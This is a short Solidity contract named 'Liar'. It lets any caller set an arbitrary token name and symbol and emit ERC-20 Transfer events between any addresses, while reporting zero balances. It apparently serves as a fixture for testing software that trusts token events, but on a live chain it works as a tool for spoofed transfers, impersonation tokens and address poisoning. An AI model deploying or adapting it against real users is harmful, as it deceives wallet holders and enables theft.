// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// Logs transfers that never happened, under any name and symbol.
contract Liar {
    string public name;
    string public symbol;
    uint8 public constant decimals = 6;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function pose(string calldata name_, string calldata symbol_) external {
        name = name_;
        symbol = symbol_;
    }

    function spoof(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }
}
